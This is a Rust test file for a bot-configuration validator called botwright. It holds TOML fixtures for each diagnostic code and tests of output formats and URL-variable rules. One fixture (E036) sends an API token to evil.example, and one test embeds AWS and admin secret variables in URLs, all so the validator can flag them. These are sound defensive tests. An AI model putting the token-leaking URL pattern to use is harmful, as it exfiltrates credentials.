//! One fixture per diagnostic code: each must report its code, and its
//! rendered, colourless output is an insta snapshot.

use botwright::diagnostics::{self, Code, Format, SourceFile};

const HEAD: &str = "[bot]\nname = \"T\"\ntoken_env = \"T_TOKEN\"\n";

pub(crate) fn fixture(code: &str) -> String {
    let body = match code {
        "E001" => return "[bot\nname = 1".into(),
        "E002" => "[[keyword]]\nmatch = \"a\"\nrepyl = \"x\"\n",
        "E003" => return "[bot]\nname = \"T\"\n".into(),
        "E004" => "[[keyword]]\nmatch = \"a\"\nreply = \"123456789:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\"\n",
        "E005" => "[[keyword]]\nmatch = \"a\"\nreply = 5\n",
        "E006" => "[[keyword]]\nmatch = \"А1\"\nreply = \"x\"\n\n[[keyword]]\nmatch = \"а 1\"\nreply = \"y\"\n",
        "E007" => "[[keyword]]\nmatch = \"a\"\nalias = \"nowhere\"\n",
        "E008" => {
            "[[keyword]]\nid = \"old\"\nmatch = \"old\"\nreply = \"x\"\ndisabled = true\n\n[[keyword]]\nmatch = \"a\"\nalias = \"old\"\n"
        }
        "E009" => {
            "[[keyword]]\nid = \"r\"\nmatch = \"r\"\nreply = \"x\"\n\n[[keyword]]\nparent = \"r\"\nmatch = \"o\"\nreply = \"y\"\n"
        }
        "E010" => "[[keyword]]\nmatch = \"a\"\ninput = \"Your name?\"\n",
        "E011" => "[[keyword]]\nmatch = \"a\"\nchoice = \"Pick one\"\n",
        "E012" => "[[keyword]]\nmatch = \"a\"\nreply = \"x\"\nrun = \"calc\"\n",
        "E013" => "[[keyword]]\nmatch = \"a\"\n",
        "E014" => "[[keyword]]\nid = \"p\"\nmatch = \"p\"\nalias = \"q\"\n\n[[keyword]]\nid = \"q\"\nalias = \"p\"\n",
        "E015" => "[[keyword]]\nmatch = \"a\"\nrun = \"calc\"\n",
        "E016" => "[texts]\ngreting = \"Hi\"\n",
        "E017" => "[[keyword]]\nmatch = \"a\"\nreply = \"<b>bold\"\n",
        "E018" => "[[keyword]]\nmatch = \"a\"\nreply = \"Sum: {{ 1 + }}\"\n",
        "E019" => "[[keyword]]\nmatch = \"a\"\nreply = \"Hi {{ usr.name }}\"\n",
        "E020" => "[[keyword]]\nmatch = \"a\"\nreply = \"{{ shout(input) }}\"\n",
        "E021" => {
            "[[keyword]]\nid = \"c\"\nmatch = \"c\"\nchoice = \"Pick\"\n\n[[keyword]]\nparent = \"c\"\nmatch = \"Очень длинная надпись на кнопке которая не помещается\"\nreply = \"x\"\n"
        }
        "E022" => {
            let mut s = String::from("[[keyword]]\nid = \"c\"\nmatch = \"c\"\nchoice = \"Pick\"\n");
            for i in 0..101 {
                s.push_str(&format!(
                    "\n[[keyword]]\nparent = \"c\"\nmatch = \"o{i}\"\nreply = \"x\"\n"
                ));
            }
            return format!("{HEAD}{s}");
        }
        "E023" => "[auth]\nrequired = true\n",
        "E024" => {
            return format!("{HEAD}[[keyword]]\nmatch = \"a\"\nreply = \"{}\"\n", "x".repeat(4100));
        }
        "E025" => {
            "[[keyword]]\nid = \"a\"\nmatch = \"a\"\nreply = \"x\"\n\n[[keyword]]\nid = \"a\"\nmatch = \"b\"\nreply = \"y\"\n"
        }
        "E026" => "[[keyword]]\nid = \"Bad-Id\"\nmatch = \"a\"\nreply = \"x\"\n",
        "E027" => "[algorithms.calc]\nexpr = \"1\"\nhttp = \"http://127.0.0.1/x\"\n",
        "E028" => "[algorithms.calc]\nhttp = \"http://127.0.0.1/x\"\ntimeout = \"soon\"\n",
        "E029" => "[[keyword]]\nmatch = \"a\"\nreply = \"x\"\nconfirm = true\n",
        "E030" => "[[keyword]]\nmatch = \"a\"\nreply = \"{{ len(input, 2) }}\"\n",
        "E031" => "[[keyword]]\nmatch = \"*\"\nreply = \"x\"\n",
        "E032" => {
            "[[keyword]]\nid = \"c\"\nmatch = \"c\"\nchoice = \"Pick\"\n\n[[keyword]]\nparent = \"c\"\nreply = \"x\"\n"
        }
        "E033" => "[notifications.task]\nattachments = true\n",
        "E034" => "[[keyword]]\nmatch = \"key, /start\"\nreply = \"x\"\npublic = true\n",
        "E035" => {
            "[[keyword]]\nid = \"key\"\nmatch = \"key\"\nalias = \"secret\"\npublic = true\n\n[[keyword]]\nid = \"secret\"\nmatch = \"secret\"\nreply = \"x\"\n"
        }
        "E036" => {
            "[[keyword]]\nmatch = \"go\"\nrun = \"leak\"\n\n[algorithms.leak]\nhttp = \"https://evil.example/${BOTWRIGHT_API_TOKEN}\"\n"
        }
        "E037" => {
            "[[keyword]]\nmatch = \"a\"\ninput = \"Send the contract\"\naccept = [\"document\"]\ntype = \"date\"\nthen = \"b\"\n\n[[keyword]]\nid = \"b\"\nreply = \"ok\"\n"
        }
        "E038" => {
            "[[keyword]]\nmatch = \"a\"\ninput = \"How many?\"\ntype = \"numbr\"\nthen = \"b\"\n\n[[keyword]]\nid = \"b\"\nreply = \"ok\"\n"
        }
        "W001" => "[[keyword]]\nid = \"lonely\"\nreply = \"x\"\n",
        "W002" => {
            "[[keyword]]\nid = \"c\"\nmatch = \"c\"\nchoice = \"Pick\"\n\n[[keyword]]\nparent = \"c\"\nmatch = \"*\"\nreply = \"any\"\n\n[[keyword]]\nparent = \"c\"\nmatch = \"late\"\nreply = \"never\"\n"
        }
        "W003" => {
            "[[keyword]]\nid = \"c\"\nmatch = \"c\"\nchoice = \"Pick\"\nmenu = [\"A\"]\n\n[[keyword]]\nparent = \"c\"\nmatch = \"o\"\nreply = \"x\"\n"
        }
        other => panic!("no fixture for {other}"),
    };
    format!("{HEAD}{body}")
}

fn compile(name: &str, text: &str) -> Vec<diagnostics::Diagnostic> {
    let file = SourceFile::new(format!("{name}.toml"), text);
    let mut found = Vec::new();
    botwright::validate::compile("fixture", &file, &mut found);
    diagnostics::sort(&mut found);
    found
}

fn render(found: &[diagnostics::Diagnostic], format: Format) -> String {
    let mut out = termcolor::NoColor::new(Vec::new());
    diagnostics::render(found, format, &mut out).expect("render");
    String::from_utf8(out.into_inner()).expect("utf-8")
}

#[test]
fn every_code_has_a_fixture_that_reports_it() {
    for code in Code::ALL {
        let name = code.as_str();
        let found = compile(name, &fixture(name));
        let rendered = render(&found, Format::Human);
        assert!(
            found.iter().any(|d| d.code == *code),
            "fixture {name} did not report it:\n{rendered}"
        );
        // The long-text fixture would make an unreadable snapshot: keep its first lines.
        let shown: String = rendered
            .lines()
            .map(|l| {
                if l.len() > 200 {
                    format!(
                        "{}…",
                        &l[..l.char_indices().nth(120).map(|(i, _)| i).unwrap_or(l.len())]
                    )
                } else {
                    l.to_string()
                }
            })
            .collect::<Vec<_>>()
            .join("\n");
        insta::assert_snapshot!(name, shown);
    }
}

#[test]
fn codes_are_unique_and_well_formed() {
    let mut seen = std::collections::HashSet::new();
    for code in Code::ALL {
        let s = code.as_str();
        assert!(seen.insert(s), "code {s} is used twice");
        let (letter, digits) = s.split_at(1);
        assert!(
            matches!(letter, "E" | "W") && digits.len() == 3 && digits.chars().all(|c| c.is_ascii_digit()),
            "{s}"
        );
        assert_eq!(letter == "E", code.severity() == diagnostics::Severity::Error, "{s}");
    }
}

#[test]
fn json_output_has_the_fields_of_the_spec() {
    let found = compile("E002", &fixture("E002"));
    let json: serde_json::Value = serde_json::from_str(&render(&found, Format::Json)).expect("JSON array");
    let first = json
        .as_array()
        .expect("array")
        .iter()
        .find(|d| d["code"] == "E002")
        .expect("E002 reported");
    assert_eq!(first["file"], "E002.toml");
    assert_eq!(first["line"], 6);
    assert_eq!(first["column"], 1);
    assert_eq!(first["end_line"], 6);
    assert_eq!(first["end_column"], 6);
    assert_eq!(first["severity"], "error");
    assert_eq!(first["code"], "E002");
    assert_eq!(first["message"], "unknown key `repyl` in a [[keyword]]");
    assert_eq!(first["help"], "did you mean `reply`?");
}

#[test]
fn github_output_annotates_lines() {
    let found = compile("E017", &fixture("E017"));
    let text = render(&found, Format::Github);
    assert!(text.starts_with("::error file=E017.toml,line=6,col=10,"), "{text}");
}

#[test]
fn all_problems_are_reported_at_once() {
    let text = format!(
        "{HEAD}nme = 1\n[[keyword]]\nmatch = \"a\"\nreply = \"{{{{ x }}}}\"\n\n[[keyword]]\nmatch = \"b\"\nrun = \"nope\"\n"
    );
    let codes: Vec<&str> = compile("many", &text).iter().map(|d| d.code.as_str()).collect();
    assert_eq!(codes, ["E002", "E019", "E015"]);
}

#[test]
fn human_output_shows_the_right_line_of_a_long_file_with_crlf_endings() {
    let mut text = HEAD.replace('\n', "\r\n");
    for i in 0..1000 {
        text.push_str(&format!("\r\n[[keyword]]\r\nmatch = \"w{i}\"\r\nreply = \"x\"\r\n"));
    }
    text.push_str("\r\n[[keyword]]\r\nmatch = \"last\"\r\nrepyl = \"y\"");
    let found = compile("long", &text);
    assert_eq!(found.len(), 2, "{found:?}");
    let shown = render(&found, Format::Human);
    // The unknown key is on the file's last line, which has no line end.
    let line = text.lines().count();
    assert!(shown.contains(&format!("long.toml:{line}:1: error[E002]")), "{shown}");
    assert!(shown.contains(&format!("{line} | repyl = \"y\"\n")), "{shown}");
    assert!(shown.contains("| ^^^^^\n"), "{shown}");
    assert!(!shown.contains('\r') && !shown.contains('\u{240d}'), "{shown:?}");
}

#[test]
fn a_required_key_of_the_wrong_type_is_not_also_missing() {
    let found = compile("typed", "[bot]\nname = 1\ntoken_env = 5\n");
    let codes: Vec<&str> = found.iter().map(|d| d.code.as_str()).collect();
    assert_eq!(codes, ["E005", "E005"], "{found:?}");
}

fn url_bot(url: &str) -> String {
    format!(
        "[bot]\nname = \"T\"\ntoken_env = \"T_TOKEN\"\n\n[[keyword]]\nmatch = \"go\"\nrun = \"call\"\n\n[algorithms.call]\nhttp = \"{url}\"\n"
    )
}

fn url_codes(id: &str, url: &str) -> Vec<Code> {
    let file = SourceFile::new(format!("{id}.toml"), url_bot(url));
    let mut found = Vec::new();
    botwright::validate::compile(id, &file, &mut found);
    found.iter().map(|d| d.code).collect()
}

#[test]
fn an_http_url_names_only_the_bots_own_url_variables() {
    for (id, url) in [
        ("aws", "https://x.example/${AWS_SECRET_ACCESS_KEY}"),
        ("shop", "https://x.example/?k=${SHOP_ADMIN_SIGNING_KEY}"),
        ("signal", "${SIGNAL_CURL}/x"),
        ("signal", "${SIGNAL_TOKEN_SECRET}/x"),
        ("signal", "${BOTWRIGHT_URL_}/x"),
    ] {
        assert_eq!(url_codes(id, url), vec![Code::UrlVariable], "{id}: {url}");
    }
    for (id, url) in [
        ("signal", "${SIGNAL_BS_URL}/x"),
        ("signal", "${SIGNAL_URL_TASKS}/x"),
        ("signal", "${SIGNAL_URL}/x"),
        ("signal", "${BOTWRIGHT_URL_BS}/x"),
    ] {
        assert_eq!(url_codes(id, url), vec![], "{id}: {url}");
    }
}

#[test]
fn bots_compiled_together_own_the_variables_their_longest_id_prefixes() {
    let dir = tempfile::tempdir().expect("temp dir");
    let shop = dir.path().join("shop.toml");
    let admin = dir.path().join("shop_admin.toml");
    std::fs::write(&shop, url_bot("${SHOP_ADMIN_URL}/x")).expect("write");
    std::fs::write(
        &admin,
        url_bot("${SHOP_ADMIN_URL}/x").replace("T_TOKEN", "SHOP_ADMIN_TOKEN"),
    )
    .expect("write");
    let mut found = Vec::new();
    let bots = botwright::validate::compile_paths(&[shop.clone(), admin.clone()], &mut found).expect("read");
    assert!(bots[0].is_none() && bots[1].is_some(), "{found:?}");
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0].code, Code::UrlVariable);
    assert!(
        found[0].message.contains("belongs to bot `shop_admin`"),
        "{}",
        found[0].message
    );
    // Alone, `shop` may name it.
    let mut alone = Vec::new();
    assert!(
        botwright::validate::compile_path(&shop, &mut alone)
            .expect("read")
            .is_some(),
        "{alone:?}"
    );
    // Another bot's token is refused even when it is shaped like a URL variable of this one.
    std::fs::write(&shop, url_bot("${SHOP_URL_TOKEN}/x")).expect("write");
    std::fs::write(
        &admin,
        url_bot("${SHOP_ADMIN_URL}/x").replace("T_TOKEN", "SHOP_URL_TOKEN"),
    )
    .expect("write");
    let mut found = Vec::new();
    let bots = botwright::validate::compile_paths(&[shop, admin], &mut found).expect("read");
    assert!(bots[0].is_none() && bots[1].is_some(), "{found:?}");
    assert!(
        found[0].message.contains("is the token of a bot"),
        "{}",
        found[0].message
    );
}

/// The keys of a checked answer: each mistake gets its code, and a correct use none.
#[test]
fn the_keys_of_a_checked_answer_are_checked() {
    let input = |keys: &str| {
        format!(
            "{HEAD}[[keyword]]\nmatch = \"a\"\ninput = \"How many?\"\n{keys}then = \"b\"\n\n[[keyword]]\nid = \"b\"\nreply = \"ok\"\n"
        )
    };
    let codes = |text: &str| -> Vec<&'static str> { compile("answer", text).iter().map(|d| d.code.as_str()).collect() };
    let good = input(
        "type = \"integer\"\ncheck = \"input > 0 and input <= vars.max\"\ninvalid = \"«{{ input }}» is not a count\"\nattempts = 3\n",
    );
    assert_eq!(codes(&good), Vec::<&str>::new());
    assert_eq!(codes(&input("type = \"integer\"\naccept = [\"photo\"]\n")), ["E037"]);
    assert_eq!(
        codes(&input("type = \"integer\"\naccept = [\"photo\", \"text\"]\n")),
        Vec::<&str>::new()
    );
    assert_eq!(codes(&input("type = \"fraction\"\n")), ["E038"]);
    assert_eq!(codes(&input("check = \"input >\"\n")), ["E018"]);
    assert_eq!(codes(&input("check = \"inptu > 1\"\n")), ["E019"]);
    assert_eq!(codes(&input("invalid = \"<b>no\"\n")), ["E017"]);
    assert_eq!(codes(&input("attempts = 0\n")), ["E028"]);
    assert_eq!(codes(&input("attempts = -2\n")), ["E028"]);
    assert_eq!(codes(&input("attempts = 99999999999\n")), Vec::<&str>::new());
    for key in [
        "type = \"number\"",
        "check = \"true\"",
        "invalid = \"no\"",
        "attempts = 2",
    ] {
        let text = format!("{HEAD}[[keyword]]\nmatch = \"a\"\nreply = \"x\"\n{key}\n");
        let found = compile("misplaced", &text);
        assert_eq!(found.len(), 1, "{key}: {found:?}");
        assert_eq!(found[0].code, Code::MisplacedKey, "{key}");
        assert!(
            found[0].message.contains("does not apply to a `reply` record"),
            "{}",
            found[0].message
        );
    }
}

/// One `check` reports every problem of a file, in every section, also the ones found by
/// checks that read what earlier checks refused (records, notifications' buttons).
#[test]
fn one_run_reports_the_errors_of_every_section() {
    let text = r#"[bot]
name = "T"
token_env = "T_TOKEN"
language = "fr"

[texts]
greting = "Hi"
unknown = "{{ nope }}"

[auth]
required = true

[[keyword]]
match = "a"
alias = "nowhere"

[[keyword]]
id = "done"
match = "done"
input = "Comment?"
type = "numbr"
then = "missing"

[[keyword]]
id = "plain"
match = "plain"
reply = "<b>open"

[algorithms.calc]
timeout = "soon"

[notifications.task]
text = "Task {{ data.id"
buttons = [[
  { text = "Done", action = "plain", value = "{{ data.id }}" },
  { text = "Gone", action = "ghost", value = "1" },
]]
"#;
    let found = compile("every", text);
    let mut codes: Vec<&str> = found.iter().map(|d| d.code.as_str()).collect();
    codes.sort();
    assert_eq!(
        codes,
        [
            "E007", "E007", "E007", "E016", "E017", "E018", "E019", "E023", "E027", "E028", "E028", "E028", "E038"
        ],
        "{}",
        render(&found, Format::Human)
    );
    let messages: Vec<&str> = found.iter().map(|d| d.message.as_str()).collect();
    for expected in [
        "record `plain` is not marked `action = true`",
        "`action` names no record: `ghost`",
        "`then` names no record: `missing`",
        "`alias` names no record: `nowhere`",
    ] {
        assert!(
            messages.iter().any(|m| m.contains(expected)),
            "{expected}: {messages:#?}"
        );
    }
}
